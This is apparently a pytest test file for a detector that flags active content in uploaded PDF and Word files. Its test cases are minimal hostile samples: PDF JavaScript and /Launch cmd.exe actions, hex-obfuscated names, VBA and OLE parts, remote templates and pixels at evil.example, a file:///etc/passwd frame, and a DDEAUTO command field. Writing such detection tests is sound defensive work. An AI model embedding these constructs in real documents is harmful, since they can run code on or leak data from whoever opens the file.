"""Files that would do something when opened, and ones that would not."""

import io
import zlib

import pytest

from documents.active_content import active_content
from documents.media_types import MediaType
from tests.support.api import upload_files

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer <<" + trailer + b">>\nstartxref\n0\n%%EOF\n"


def object_stream(content: bytes, dictionary: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"7 0 obj <<" + dictionary + b">>\nstream\n" + packed + b"\nendstream endobj"


def in_pdf(data: bytes) -> str:
    return active_content(io.BytesIO(data), MediaType.PDF)


def in_word(data: bytes) -> str:
    return active_content(io.BytesIO(data), MediaType.DOCX)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (pdf(b"1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), "JavaScript"),
        (pdf(b"1 0 obj << /S /J#61vaScri#70t /JS (1) >> endobj"), "JavaScript"),
        (pdf(b"1 0 obj << /S /Launch /F (cmd.exe) >> endobj"), "Launch"),
        (pdf(b"1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj"), "嵌入的文件"),
        (pdf(b"1 0 obj << /AcroForm << /XFA 2 0 R >> >> endobj"), "XFA"),
        (pdf(object_stream(b"1 0 << /S /JavaScript >>")), "JavaScript"),
        (pdf(object_stream(b"1 0 << /S /JavaScr#69pt >>")), "JavaScript"),
        (
            pdf(object_stream(b"1 0 << >>", b"/Type /Obj#53tm /Filter [/ASCIIHexDecode /FlateDecode]")),
            "无法检查",
        ),
        (pdf(object_stream(b"1 0 << >>", b"/Type /ObjStm /Filter 9 0 R")), "无法检查"),
        (
            pdf(object_stream(b"1 0 << >>", b"/Type /ObjStm /Filter /FlateDecode /X (" + b"a" * 9000 + b")")),
            "无法检查",
        ),
        (pdf(object_stream(b" " * 70_000_000)), "无法检查"),
        (pdf(b"7 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nno zlib\nendstream"), "无法检查"),
        (pdf(trailer=b"/Encrypt 4 0 R"), "加密"),
    ],
)
def test_a_pdf_that_would_do_something_is_noticed(data: bytes, says: str) -> None:
    assert says in in_pdf(data)


@pytest.mark.parametrize(
    "data",
    [
        upload_files.PDF,
        pdf(object_stream(b"1 0 << /Type /Page >>")),
        pdf(b"1 0 obj << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >> endobj"),
    ],
)
def test_a_pdf_that_would_do_nothing_is_left_alone(data: bytes) -> None:
    assert in_pdf(data) == ""


def relation(kind: str, target: str, mode: str = "External") -> str:
    return RELATIONS.format(
        f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )


def text(content: str) -> str:
    return f'<w:document xmlns:w="{WORD}"><w:body>{content}</w:body></w:document>'


@pytest.mark.parametrize(
    "added",
    [
        {"word/vbaProject.bin": "x"},
        {"word/VBAPROJECT.BIN": "x"},
        {
            "word/other.bin": "x",
            "[Content_Types].xml": "<Types><Default ContentType='application/vnd.ms-office.VBAproject'/></Types>",
        },
        {"word/activeX/activeX1.xml": "<a/>"},
        {"word/embeddings/oleObject1.bin": "x"},
        {"word/embeddings/a.xlsx": "x"},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "t.dotm", "Internal")},
        {"word/_rels/document.xml.rels": relation("image", "http://evil.example/pixel.png")},
        {"word/_rels/document.xml.rels": relation("frame", "file:///etc/passwd")},
        {"word/_RELS/document.xml.RELS": relation("oleObject", "http://evil.example/")},
        {
            "word/footer9.xml": text(
                "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd </w:instrText></w:r></w:p>"
            )
        },
        {"word/footer9.xml": text('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/a"/>')},
        {"word/footer9.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
    ],
)
def test_a_word_file_that_would_do_something_is_noticed(added: dict[str, str]) -> None:
    assert in_word(upload_files.changed(added)) != ""


@pytest.mark.parametrize(
    "added",
    [
        {},
        {"word/_rels/footer9.xml.rels": relation("hyperlink", "https://zaozhuang.example/")},
        {"word/footer9.xml": text("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>")},
        {"word/footer9.xml": text("<w:p><w:r><w:t>DDE 与 INCLUDEPICTURE 只是文字</w:t></w:r></w:p>")},
    ],
)
def test_a_word_file_that_would_do_nothing_is_left_alone(added: dict[str, str]) -> None:
    assert in_word(upload_files.changed(added)) == ""
